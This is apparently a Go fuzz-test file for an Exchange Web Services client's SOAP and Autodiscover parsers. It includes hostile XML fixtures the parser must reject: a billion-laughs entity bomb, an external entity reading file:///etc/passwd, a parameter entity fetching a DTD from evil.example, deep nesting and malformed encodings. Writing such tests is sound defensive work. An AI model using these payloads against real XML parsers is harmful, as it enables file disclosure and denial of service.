package ews

import (
	"bytes"
	"fmt"
	"os"
	"path/filepath"
	"strings"
	"testing"
	"unicode/utf8"
)

// maxFuzzInput mirrors the client's response cap at fuzzing scale: parsers only ever see
// bodies that readLimited let through.
const maxFuzzInput = 1 << 20

// seed adds recorded bodies (of the given response elements, all when none are given), the
// hand-written failure fixtures, and broken variants of them.
func seed(f *testing.F, responses ...string) {
	f.Helper()
	var bodies []string
	for _, r := range loadRecordings(f) {
		if r.Body == "" {
			continue
		}
		if len(responses) > 0 {
			op := recordedOp(r.Body)
			if !isSOAP(r) {
				op = "Autodiscover"
			}
			found := false
			for _, want := range responses {
				found = found || op == want
			}
			if !found {
				continue
			}
		}
		bodies = append(bodies, r.Body)
	}
	entries, err := os.ReadDir(filepath.Join("testdata", "faults"))
	if err != nil {
		f.Fatal(err)
	}
	for _, e := range entries {
		data, err := os.ReadFile(filepath.Join("testdata", "faults", e.Name()))
		if err != nil {
			f.Fatal(err)
		}
		bodies = append(bodies, string(data))
	}
	for i, b := range bodies {
		f.Add([]byte(b))
		if i%4 == 0 {
			f.Add([]byte(b[:len(b)/2]))
			f.Add([]byte(strings.Replace(b, "<", "<!DOCTYPE x [<!ENTITY a 'b'>]><", 1)))
		}
	}
	for _, broken := range []string{"", "<", "<s:Envelope/>", "not xml at all", "\xff\xfe<\x00",
		`<s:Envelope xmlns:s="http://schemas.xmlsoap.org/soap/envelope/"><s:Body/></s:Envelope>`,
		strings.Repeat("<a>", 500) + strings.Repeat("</a>", 500)} {
		f.Add([]byte(broken))
	}
	for _, h := range hostileXML() {
		f.Add([]byte(h.body))
	}
	// A large answer just inside the fuzzing cap: parsing costs time in proportion to its size.
	f.Add([]byte(soapBody("<x>" + strings.Repeat("Zoë & Co ", (maxFuzzInput-300)/10) + "</x>")))
}

// hostileBody is a response no Exchange sends, with the reason parseXML must refuse it for.
type hostileBody struct {
	name string
	body string
	want error
}

// soapBody wraps inner in a SOAP envelope's body, as an answer would carry it.
func soapBody(inner string) string {
	return `<?xml version="1.0" encoding="utf-8"?><s:Envelope xmlns:s="http://schemas.xmlsoap.org/soap/envelope/"><s:Body>` +
		inner + `</s:Body></s:Envelope>`
}

// deepXML is n nested elements.
func deepXML(n int) string { return strings.Repeat("<a>", n) + strings.Repeat("</a>", n) }

// hostileXML are the bad inputs parseXML refuses, each in time and memory proportional to its
// (capped) size: entity bombs and external entities, directives anywhere, nesting past
// maxXMLDepth, invalid UTF-8 and foreign encodings.
func hostileXML() []hostileBody {
	laughs := `<?xml version="1.0"?><!DOCTYPE lolz [<!ENTITY lol "lol">`
	for i := 1; i <= 9; i++ {
		prev := "lol"
		if i > 1 {
			prev = fmt.Sprintf("lol%d", i-1)
		}
		laughs += fmt.Sprintf(`<!ENTITY lol%d "%s">`, i, strings.Repeat("&"+prev+";", 10))
	}
	laughs += `]><s:Envelope xmlns:s="http://schemas.xmlsoap.org/soap/envelope/"><s:Body><x>&lol9;</x></s:Body></s:Envelope>`
	return []hostileBody{
		{"billion laughs", laughs, ErrDocumentType},
		{"external entity", `<?xml version="1.0"?><!DOCTYPE x [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>` + soapBody("<x>&xxe;</x>")[len(`<?xml version="1.0" encoding="utf-8"?>`):], ErrDocumentType},
		{"parameter entity", `<!DOCTYPE x [<!ENTITY % p SYSTEM "http://evil.example/p.dtd"> %p;]>` + soapBody(""), ErrDocumentType},
		{"directive inside the body", soapBody(`<m:GetItemResponse xmlns:m="m"><!doctype x></m:GetItemResponse>`), ErrDocumentType},
		{"entity declaration alone", soapBody(`<!ENTITY a "b">`), ErrDocumentType},
		{"nesting past the limit", soapBody(deepXML(maxXMLDepth)), ErrTooDeep},
		{"nesting far past the limit", soapBody(deepXML(100_000)), ErrTooDeep},
		{"unclosed nesting", soapBody(strings.Repeat("<a>", 200_000)), ErrTooDeep},
		{"Latin-1 text", soapBody("<m:R xmlns:m=\"m\">M\xfcller</m:R>"), ErrInvalidUTF8},
		{"overlong encoding", soapBody("<m:R xmlns:m=\"m\">\xc0\xbc</m:R>"), ErrInvalidUTF8},
		{"encoded surrogate", soapBody("<m:R xmlns:m=\"m\" a=\"\xed\xa0\x80\"/>"), ErrInvalidUTF8},
		{"invalid UTF-8 in a comment", soapBody("<!-- \xff -->"), ErrInvalidUTF8},
		{"UTF-16", "\xff\xfe<\x00s\x00:\x00", ErrInvalidUTF8},
		{"declared Latin-1", `<?xml version="1.0" encoding="ISO-8859-1"?><s:Envelope xmlns:s="http://schemas.xmlsoap.org/soap/envelope/"><s:Body><x/></s:Body></s:Envelope>`, ErrForeignEncoding},
	}
}

func envelopeFor(t *testing.T, data []byte) *envelope {
	if len(data) > maxFuzzInput {
		t.Skip()
	}
	env, err := parseEnvelope(data)
	if err != nil {
		return nil
	}
	if !utf8.Valid(data) || bytes.Contains(data, []byte("<!DOCTYPE")) || bytes.Contains(data, []byte("<!ENTITY")) {
		t.Fatal("parseEnvelope accepted invalid UTF-8 or a document type declaration")
	}
	if env.body == nil {
		t.Fatal("parseEnvelope returned no body and no error")
	}
	return env
}

func FuzzEnvelope(f *testing.F) {
	seed(f)
	f.Fuzz(func(t *testing.T, data []byte) {
		env := envelopeFor(t, data)
		if env == nil {
			return
		}
		op := strings.TrimSuffix(env.body.Tag, "Response")
		msgs, err := responseMessages(env, op)
		if err != nil {
			return
		}
		for _, m := range msgs {
			if m.el == nil || (m.err != nil && m.err.Code == "") {
				t.Fatalf("message without element or error code: %+v", m)
			}
		}
	})
}

func FuzzSyncFolderItems(f *testing.F) {
	seed(f, "SyncFolderItemsResponse")
	f.Fuzz(func(t *testing.T, data []byte) {
		env := envelopeFor(t, data)
		if env == nil {
			return
		}
		res, err := parseSyncFolderItems(env)
		if err != nil {
			return
		}
		if res.SyncState == "" {
			t.Fatal("accepted a page without a sync state")
		}
		for _, ch := range res.Changes {
			if ch.ID.ID == "" || ch.Kind < ChangeCreate || ch.Kind > ChangeReadFlag {
				t.Fatalf("bad change %+v", ch)
			}
		}
	})
}

// fuzzItems checks one batch answer parser that reads items (GetItem, CreateItem, UpdateItem).
func fuzzItems(t *testing.T, data []byte, op string) {
	env := envelopeFor(t, data)
	if env == nil {
		return
	}
	msgs, err := responseMessages(env, op)
	if err != nil {
		return
	}
	res, err := parseItemMessages(env, op, len(msgs), func(int) string { return "id" })
	if err != nil {
		return
	}
	for _, r := range res {
		if r.Err == nil && r.Item != nil && r.Item.ID.ID == "" {
			t.Fatal("item without an id")
		}
		if r.Item != nil && r.Item.Record != nil && r.Item.Record.GetBody() == nil {
			t.Fatal("record without content")
		}
	}
}

func FuzzGetItem(f *testing.F) {
	seed(f, "GetItemResponse")
	f.Fuzz(func(t *testing.T, data []byte) { fuzzItems(t, data, "GetItem") })
}

func FuzzCreateItem(f *testing.F) {
	seed(f, "CreateItemResponse")
	f.Fuzz(func(t *testing.T, data []byte) { fuzzItems(t, data, "CreateItem") })
}

func FuzzUpdateItem(f *testing.F) {
	seed(f, "UpdateItemResponse")
	f.Fuzz(func(t *testing.T, data []byte) { fuzzItems(t, data, "UpdateItem") })
}

func FuzzDeleteItem(f *testing.F) {
	seed(f, "DeleteItemResponse")
	f.Fuzz(func(t *testing.T, data []byte) {
		env := envelopeFor(t, data)
		if env == nil {
			return
		}
		msgs, err := responseMessages(env, "DeleteItem")
		if err != nil {
			return
		}
		for _, m := range msgs {
			if m.err != nil {
				if se := itemError("DeleteItem", "id", m.err); se == nil {
					t.Fatal("unclassified item error")
				}
			}
		}
	})
}

func FuzzFindItem(f *testing.F) {
	seed(f, "FindItemResponse")
	f.Fuzz(func(t *testing.T, data []byte) {
		env := envelopeFor(t, data)
		if env == nil {
			return
		}
		msgs, err := responseMessages(env, "FindItem")
		if err != nil {
			return
		}
		pages, err := parseFindItems(env, len(msgs))
		if err != nil {
			return
		}
		for _, p := range pages {
			for _, it := range p.items {
				if it.ID.ID == "" {
					t.Fatal("item without an id")
				}
			}
		}
	})
}

func FuzzFolders(f *testing.F) {
	seed(f, "GetFolderResponse", "FindFolderResponse", "CreateFolderResponse")
	f.Fuzz(func(t *testing.T, data []byte) {
		env := envelopeFor(t, data)
		if env == nil {
			return
		}
		if folders, err := parseGetFolder(env); err == nil {
			for _, fo := range folders {
				if fo.ID.ID == "" {
					t.Fatal("folder without an id")
				}
			}
		}
		if res, err := parseFindFolder(env); err == nil && !res.last && res.next <= 0 {
			t.Fatal("unfinished FindFolder page without a next offset")
		}
		if msgs, err := responseMessages(env, "CreateFolder"); err == nil {
			for _, m := range msgs {
				if m.err == nil {
					_, _ = onlyFolder(child(m.el, nsMessages, "Folders"))
				}
			}
		}
	})
}

func FuzzAutodiscoverSOAP(f *testing.F) {
	f.Add([]byte(soapUserSettings("NoError", "", map[string]string{"ExternalEwsUrl": "https://mail.example.com/EWS/Exchange.asmx", "UserDisplayName": "Ann"})))
	f.Add([]byte(soapUserSettings("RedirectAddress", "ann@cloud.example.com", nil)))
	f.Add([]byte(soapUserSettings("RedirectUrl", "https://eu.example.com/autodiscover/autodiscover.svc", nil)))
	f.Add([]byte(soapUserSettings("InvalidUser", "", nil)))
	seed(f, "Autodiscover")
	f.Fuzz(func(t *testing.T, data []byte) {
		if len(data) > maxFuzzInput {
			t.Skip()
		}
		for n := 1; n <= 2; n++ {
			answers, err := parseGetUserSettings(data, n)
			if err != nil {
				continue
			}
			if len(answers) != n {
				t.Fatalf("%d answers for %d users", len(answers), n)
			}
			for _, ans := range answers {
				if ans.err == nil && ans.settings == nil && ans.redirectURL == "" && ans.redirectAddress == "" {
					t.Fatal("accepted an answer with neither settings nor a redirect")
				}
			}
		}
	})
}

func FuzzAutodiscoverPOX(f *testing.F) {
	f.Add([]byte(poxSettings("https://mail.example.com/EWS/Exchange.asmx")))
	seed(f, "Autodiscover")
	f.Fuzz(func(t *testing.T, data []byte) {
		if len(data) > maxFuzzInput {
			t.Skip()
		}
		ans, err := parsePOX(data)
		if err == nil && ans.settings != nil && ans.settings.EWSURL != "" &&
			ans.settings.EWSURL != ans.settings.ExternalEWSURL && ans.settings.EWSURL != ans.settings.InternalEWSURL {
			t.Fatal("EWS URL is neither the external nor the internal one")
		}
	})
}
